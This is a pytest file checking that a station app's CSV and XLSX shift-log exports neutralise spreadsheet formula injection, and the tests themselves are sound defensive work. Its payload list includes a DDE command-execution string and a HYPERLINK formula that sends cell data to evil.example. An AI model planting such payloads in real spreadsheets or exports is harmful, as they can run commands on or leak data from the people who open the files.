"""Exports safe to open: free text never becomes a live formula in CSV or XLSX, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest

from station import clock, operators, shifts, units
from station.context import Operator, open_station
from station.reports import shift_rows, tabular
from station.reports.hub_rows import HubShiftLog

HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+SUM(1,2)",
           "@SUM(A1:A2)", "-2+3", "\t=1+1", "\r=1+1"]
LEADS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_log(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> shift_rows.ShiftLog:
    data = tmp_path / "data"
    data.mkdir()
    (data / "station.toml").write_text('[station]\ntimezone = "Europe/Berlin"\n')
    ctx = open_station(data)
    now = datetime(2026, 11, 23, 8, 0, tzinfo=UTC)
    monkeypatch.setattr(clock, "now", lambda: now)
    op = operators.add(ctx, "=1+2", "technician", pin="1111")
    ctx.operator = Operator(op.id, op.name, "technician")
    with ctx.store.session() as s:
        for i, text in enumerate(HOSTILE):
            u = units.create(s, ctx.actor, {"serial": f"S{i}"}, device_class="phone", condition_notes=text,
                             return_reason=text, source="-ACME", expected_value=-12.5)
            units.touch(u, expected_value=-12.5)
    w = shifts.Window(datetime(2026, 11, 23, 7, tzinfo=UTC), datetime(2026, 11, 23, 9, tzinfo=UTC))
    log = shift_rows.shift_log(ctx, w)
    ctx.close()
    return log


def _assert_xlsx_has_no_formula(path: Path, texts: list[str]) -> None:
    wb = openpyxl.load_workbook(path)
    seen = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str) and c.value in texts:
                    assert c.data_type == "s"
                    seen.append(c.value)
    assert set(seen) == set(texts)  # the text itself is kept as it was typed


def test_csv_cells_from_free_text_never_start_a_formula(hostile_log, tmp_path: Path) -> None:
    out = tabular.write_csv(hostile_log, tmp_path / "s.csv")
    raw = out.read_bytes()
    for text in HOSTILE:
        quoted = ("'" + text).replace('"', '""').encode()
        assert quoted in raw, text
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    if rows[0][0].startswith("#"):
        rows = rows[1:]
    header, values = rows[0], rows[1:]
    money = header.index("Expected value")
    for row in values:
        assert row[money] == "-12.5"  # a number is not text: it keeps its sign
        for i, cell in enumerate(row):
            assert i == money or not cell.startswith(LEADS), cell


def test_xlsx_writes_free_text_as_strings_and_numbers_as_numbers(hostile_log, tmp_path: Path) -> None:
    out = tabular.write_xlsx(hostile_log, tmp_path / "s.xlsx")
    _assert_xlsx_has_no_formula(out, [*HOSTILE, "=1+2", "-ACME"])
    ws = openpyxl.load_workbook(out)["Shift log"]
    header = [c.value for c in ws[1]]
    col = header.index("Expected value")
    for row in ws.iter_rows(min_row=2):
        assert row[col].data_type == "n" and row[col].value == -12.5


def test_hub_exports_are_neutralised_too(hostile_log, tmp_path: Path) -> None:
    rows = [{"station": "=ST-1", **r} for r in hostile_log.rows]
    log = HubShiftLog(hostile_log.window, "Europe/Berlin", "=1+2", rows, hub_url="https://hub.example")
    out = tabular.write_csv(log, tmp_path / "h.csv")
    assert b"'=ST-1" in out.read_bytes() and b",=" not in out.read_bytes()
    out = tabular.write_xlsx(log, tmp_path / "h.xlsx")
    _assert_xlsx_has_no_formula(out, [*HOSTILE, "=1+2", "=ST-1", "-ACME"])
